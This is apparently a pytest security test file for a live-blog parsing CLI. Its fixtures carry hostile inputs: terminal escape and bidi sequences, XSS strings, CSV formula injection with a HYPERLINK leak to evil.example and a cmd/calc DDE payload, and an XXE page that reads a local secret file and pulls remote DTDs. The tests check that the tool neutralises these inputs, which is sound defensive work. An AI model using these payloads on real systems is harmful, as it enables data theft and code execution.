"""Page text is data; parsing touches nothing but its input; output is written safely.

* No view lets page text reach a terminal as escape sequences, control or bidi characters,
  or rich markup; CSV cells never start a formula; the HTML and Markdown views escape it.
* Parsing opens no network connection and no file (a sys audit hook watches every `open`
  and socket event, and socket creation is made to fail), lxml resolves no entity and
  loads no DTD.
* `-o` writes atomically, never over an input, replaces a symlink rather than following
  it, and a failed run leaves an existing output file as it was.
"""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import sys
import zoneinfo
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner, Result

import liveblog
from liveblog.cli import main

from .conftest import CORPUS, FIXTURES

ESCAPE = "\x1b"
PAYLOADS = {
    "sgr": "\x1b[31mRED\x1b[0m",
    "osc-link": "\x1b]8;;http://evil.example\x07OSC link\x1b]8;;\x07",
    "bell": "BELL\x07",
    "c1-csi": "CSI\x9b2J",
    "clear-screen": "\x1b[2J\x1b[H",
    "carriage-return": "hidden\rshown",
    "bidi": "bidi \u202eevil\u202c end \u2066iso\u2069",
    "rich-markup": "[bold red]rich markup[/bold red]",
    "html": "<script>alert(1)</script> <img src=x onerror=alert(2)>",
    "js-link": '<a href="javascript:alert(4)">this</a> [a link](javascript:alert(3))',
}
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1 said the minister", "-2+3 on the board",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2 after a tab", "  =3+4 after spaces", "\uff1d1+1 in full width"]


def attack_page() -> str:
    """A small live blog whose headlines, authors and body lines carry the payloads."""
    posts = []
    for number, (name, payload) in enumerate(PAYLOADS.items()):
        posts.append(f"Headline {name} {payload}\n\n{14 - number // 6:02d}:{59 - number:02d} , Jane Doe\n\n"
                     f"Body of the {name} post: {payload} end.\n")
    for number, formula in enumerate(FORMULAS):
        posts.append(f"{formula}\n\n{12 - number // 6:02d}:{50 - number:02d} , John Roe\n\n{formula}\n\n"
                     f"A second paragraph of the post.\n")
    return ("Live: a page that tries to escape its text\n\nA standfirst long enough to be read as the page's summary "
            "paragraph here.\n\n" + "\n".join(posts))


@pytest.fixture
def page(tmp_path: Path) -> Path:
    path = tmp_path / "attack.txt"
    path.write_text(attack_page(), encoding="utf-8")
    return path


def run(*args: str) -> Result:
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def parse_formats() -> tuple[str, ...]:
    command = main.commands["parse"]
    for param in command.params:
        if param.name == "format_" and isinstance(param.type, click.Choice):
            return tuple(str(choice) for choice in param.type.choices)
    return ("json",)


def require_format(name: str) -> None:
    if name not in parse_formats():
        pytest.skip(f"the CLI has no -f {name} view yet")


def assert_terminal_safe(text: str) -> None:
    bad = sorted({f"U+{ord(ch):04X}" for ch in text
                  if ch != "\n" and (ord(ch) < 32 or 127 <= ord(ch) < 160 or ch in "\u202a\u202b\u202c\u202d\u202e"
                                     "\u2066\u2067\u2068\u2069\u200e\u200f\u061c")})
    assert not bad, f"control or bidi characters reach the terminal: {bad}"


# ---------------------------------------------------------------------------
# Views.


def test_json_keeps_the_page_text_as_data(page: Path) -> None:
    result = run("parse", str(page), "--date", "2026-01-06", "-q")
    assert result.exit_code == 0, result.output
    output = json.loads(result.stdout)
    bodies = " ".join(entry["body"] for entry in output["entries"])
    assert "[bold red]rich markup[/bold red]" in bodies and "<script>alert(1)</script>" in bodies
    assert ESCAPE not in result.stdout and "\\u001b" not in result.stdout  # removed on reading, not escaped


@pytest.mark.parametrize("view", ["explain", "table"])
def test_terminal_views_show_no_escape_sequences(page: Path, view: str) -> None:
    if view == "table":
        require_format("table")
    args = ["--explain"] if view == "explain" else ["-f", "table"]
    result = run("parse", str(page), "--date", "2026-01-06", *args)
    assert result.exit_code == 0, result.output
    assert "Jane Doe" in result.stdout or "Headline" in result.stdout
    assert_terminal_safe(result.stdout)
    assert_terminal_safe(result.stderr)


def test_table_view_shows_rich_markup_literally(page: Path) -> None:
    require_format("table")
    result = CliRunner(env={"COLUMNS": "400"}).invoke(main, ["parse", str(page), "--date", "2026-01-06", "-f", "table",
                                                              "-q"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert "[bold red]rich markup[/bold red]" in result.stdout


def test_terminal_views_are_safe_with_colour_forced(page: Path) -> None:
    """With colour on, the only escape sequences are the view's own SGR styles."""
    require_format("table")
    result = CliRunner(env={"FORCE_COLOR": "1", "TERM": "xterm-256color"}).invoke(
        main, ["parse", str(page), "--date", "2026-01-06", "-f", "table", "-q"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    import re

    without_styles = re.sub(r"\x1b\[[0-9;]*m", "", result.stdout)
    assert_terminal_safe(without_styles)
    assert "\x1b]" not in result.stdout and "\x1b[2J" not in result.stdout  # no OSC link, no clear screen


def test_csv_cells_never_start_a_formula(page: Path) -> None:
    require_format("csv")
    result = run("parse", str(page), "--date", "2026-01-06", "-f", "csv", "-q")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert len(rows) > len(FORMULAS)
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        first = cell.lstrip(" ")[:1]
        assert first not in ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"), repr(cell)
    neutralised = [cell for cell in cells if cell.startswith("'")]
    assert any("HYPERLINK" in cell for cell in neutralised)
    assert_terminal_safe("".join(cells).replace("\r", ""))


def test_html_view_escapes_the_page_text(page: Path) -> None:
    require_format("html")
    result = run("parse", str(page), "--date", "2026-01-06", "-f", "html", "-q")
    assert result.exit_code == 0, result.output
    html = result.stdout
    assert "<script>alert(1)</script>" not in html
    assert "<img src=x" not in html
    assert 'href="javascript:' not in html.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert ESCAPE not in html


def test_markdown_view_escapes_html(page: Path) -> None:
    require_format("md")
    result = run("parse", str(page), "--date", "2026-01-06", "-f", "md", "-q")
    assert result.exit_code == 0, result.output
    import re

    assert not re.search(r"(?<!\\)<(?:script|img)", result.stdout), "unescaped HTML in the Markdown view"
    assert ESCAPE not in result.stdout


# ---------------------------------------------------------------------------
# No network, no file system beyond the input.


class AuditLog:
    """Events seen by a sys audit hook while recording (the hook itself is permanent)."""

    def __init__(self) -> None:
        self.recording = False
        self.events: list[tuple[str, tuple[Any, ...]]] = []

    def hook(self, event: str, args: tuple[Any, ...]) -> None:
        if self.recording and (event == "open" or event.startswith(("socket.", "urllib.", "subprocess.", "os.exec",
                                                                      "os.system", "os.posix_spawn", "shutil."))):
            self.events.append((event, args))

    def __enter__(self) -> AuditLog:
        self.events = []
        self.recording = True
        return self

    def __exit__(self, *exc: object) -> None:
        self.recording = False


AUDIT = AuditLog()
sys.addaudithook(AUDIT.hook)

#: Files the interpreter itself may open during a parse (lazy imports, zone data).
LIBRARY_ROOTS = tuple({str(Path(root).resolve()) for root in (sys.prefix, sys.base_prefix, sys.exec_prefix)} |
                      {str(Path(root).resolve()) for root in zoneinfo.TZPATH} |
                      {str(Path(liveblog.__file__).resolve().parent)})


def foreign_opens(events: list[tuple[str, tuple[Any, ...]]]) -> list[str]:
    opened = []
    for event, args in events:
        if event != "open" or not isinstance(args[0], (str, bytes, os.PathLike)):
            continue
        path = os.fsdecode(args[0])
        if not str(Path(path).resolve()).startswith(LIBRARY_ROOTS):
            opened.append(path)
    return opened


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"network access during a parse: {args!r}")

    for name in ("socket", "create_connection", "getaddrinfo", "gethostbyname"):
        monkeypatch.setattr(socket, name, refuse)
    yield


def real_pages() -> list[Path]:
    pages = sorted(FIXTURES.glob("*.txt")) + sorted(FIXTURES.glob("*.html"))
    if CORPUS.is_dir():
        pages += sorted(CORPUS.glob("*.html")) + sorted(CORPUS.glob("*.txt"))
    return pages


PAGES = real_pages()


@pytest.mark.usefixtures("no_network")
@pytest.mark.parametrize("path", PAGES, ids=[path.name for path in PAGES])
def test_parsing_a_real_page_touches_no_network_and_no_file(path: Path) -> None:
    data = path.read_bytes()
    with AUDIT as log:
        liveblog.parse(data, name=path.name, explain=True)
    assert not [event for event, _ in log.events if event != "open"], log.events
    assert foreign_opens(log.events) == []


def hostile_page(secret: Path) -> bytes:
    """External DTD, external entities (a local secret, a URL), XInclude, remote resources."""
    return f"""<?xml version="1.0"?>
<!DOCTYPE html [
  <!ENTITY secret SYSTEM "file://{secret}">
  <!ENTITY remote SYSTEM "http://evil.example/entity">
  <!ENTITY % param SYSTEM "http://evil.example/evil.dtd"> %param;
]>
<html xmlns:xi="http://www.w3.org/2001/XInclude"><head><title>Live: hostile page</title>
<link rel="stylesheet" href="http://evil.example/style.css"><script src="http://evil.example/x.js"></script>
<script type="application/ld+json">{{"@context": "http://evil.example/context.jsonld", "@type": "LiveBlogPosting",
 "liveBlogUpdate": [{{"@type": "BlogPosting", "headline": "From JSON-LD &secret;", "datePublished":
 "2026-01-06T14:32:00Z", "articleBody": "Body &secret; &remote;"}}]}}</script></head>
<body><article><time datetime="2026-01-06T14:32:00Z">14:32</time><h2>Post &secret;</h2><p>Text &remote; here.</p>
<xi:include href="file://{secret}" parse="text"/><iframe src="file://{secret}"></iframe>
<img src="http://evil.example/pixel.gif"></article>
<article><time datetime="2026-01-06T13:05:00Z">13:05</time><h2>Second post</h2><p>More text.</p></article>
</body></html>""".encode()


@pytest.mark.usefixtures("no_network")
def test_hostile_html_resolves_no_entity_and_loads_nothing(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER", encoding="utf-8")
    data = hostile_page(secret)
    with AUDIT as log:
        try:
            timeline = liveblog.parse(data, name="hostile.html", format="html", explain=True)
        except liveblog.LiveblogError:
            return
    assert "TOP-SECRET-MARKER" not in json.dumps(timeline.to_dict())
    assert not [event for event, _ in log.events if event != "open"], log.events
    assert foreign_opens(log.events) == []


def test_the_audit_hook_sees_opens_and_sockets(tmp_path: Path) -> None:
    """The watch above can fail: an open and a socket inside it are recorded."""
    with AUDIT as log:
        (tmp_path / "probe.txt").write_text("x", encoding="utf-8")
        probe = socket.socket()
        probe.close()
    assert str(tmp_path / "probe.txt") in foreign_opens(log.events)
    assert any(event.startswith("socket.") for event, _ in log.events)


# ---------------------------------------------------------------------------
# Writing the output.

SEED = FIXTURES / "seed-independent-app-live.txt"


@pytest.fixture
def workdir(tmp_path: Path) -> Path:
    (tmp_path / "blog.txt").write_bytes(SEED.read_bytes())
    return tmp_path


def leftovers(directory: Path) -> list[str]:
    return sorted(path.name for path in directory.iterdir() if path.name.endswith(".tmp") or path.name.startswith("."))


def test_output_is_written_whole_and_leaves_no_temporary_file(workdir: Path) -> None:
    out = workdir / "out.json"
    result = run("parse", str(workdir / "blog.txt"), "--date", "2026-01-06", "-o", str(out), "-q")
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    assert len(json.loads(out.read_text(encoding="utf-8"))["entries"]) == 41
    assert leftovers(workdir) == []


@pytest.mark.parametrize("alias", ["same-path", "hard-link", "symlink", "relative-path"])
def test_output_never_overwrites_the_input(workdir: Path, alias: str, monkeypatch: pytest.MonkeyPatch) -> None:
    source = workdir / "blog.txt"
    before = source.read_bytes()
    target = source
    if alias == "hard-link":
        target = workdir / "hard.txt"
        os.link(source, target)
    elif alias == "symlink":
        target = workdir / "link.txt"
        target.symlink_to(source)
    elif alias == "relative-path":
        monkeypatch.chdir(workdir)
        target = Path("./sub/../blog.txt")
        (workdir / "sub").mkdir()
    result = run("parse", str(source), "--date", "2026-01-06", "-o", str(target))
    assert result.exit_code == 1, result.output
    assert "input" in result.stderr
    assert source.read_bytes() == before
    assert Path(workdir / "blog.txt").read_bytes() == before
    assert not [name for name in leftovers(workdir) if name.endswith(".tmp")]


def test_output_folder_never_overwrites_an_input_inside_it(workdir: Path) -> None:
    """`-o DIR/` names outputs after inputs: an input NAME.json there must not be replaced."""
    source = workdir / "blog.json"
    source.write_bytes(SEED.read_bytes())
    before = source.read_bytes()
    result = run("parse", str(source), "--date", "2026-01-06", "-o", f"{workdir}/", "-q")
    assert source.read_bytes() == before
    assert result.exit_code in (0, 1)


def test_symlink_at_the_output_path_is_replaced_not_followed(workdir: Path) -> None:
    victim = workdir / "victim.txt"
    victim.write_text("precious", encoding="utf-8")
    out = workdir / "out.json"
    out.symlink_to(victim)
    result = run("parse", str(workdir / "blog.txt"), "--date", "2026-01-06", "-o", str(out), "-q")
    assert result.exit_code == 0, result.output
    assert victim.read_text(encoding="utf-8") == "precious"
    assert not out.is_symlink()
    assert json.loads(out.read_text(encoding="utf-8"))["entries"]


@pytest.mark.parametrize("problem", ["missing", "binary", "empty", "bad-date"])
def test_failed_run_leaves_the_existing_output_untouched(workdir: Path, problem: str) -> None:
    out = workdir / "out.json"
    out.write_text("previous output", encoding="utf-8")
    source = workdir / "input.txt"
    args = ["parse", str(source), "-o", str(out)]
    if problem == "binary":
        source.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)))
    elif problem == "empty":
        source.write_bytes(b"")
    elif problem == "bad-date":
        source.write_bytes(SEED.read_bytes())
        args += ["--date", "2026-13-45"]
    result = run(*args)
    assert result.exit_code in (1, 2), result.output
    assert out.read_text(encoding="utf-8") == "previous output"
    assert leftovers(workdir) == []


def test_a_write_that_fails_halfway_leaves_the_old_file(workdir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = workdir / "out.json"
    out.write_text("previous output", encoding="utf-8")

    def broken_replace(*args: object, **kwargs: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", broken_replace)
    result = run("parse", str(workdir / "blog.txt"), "--date", "2026-01-06", "-o", str(out), "-q")
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert out.read_text(encoding="utf-8") == "previous output"
    assert leftovers(workdir) == []


def test_output_into_a_missing_folder_is_a_clear_error(workdir: Path) -> None:
    result = run("parse", str(workdir / "blog.txt"), "--date", "2026-01-06", "-o", str(workdir / "no" / "out.json"))
    assert result.exit_code == 1
    assert "liveblog: error:" in result.stderr and "Traceback" not in result.output
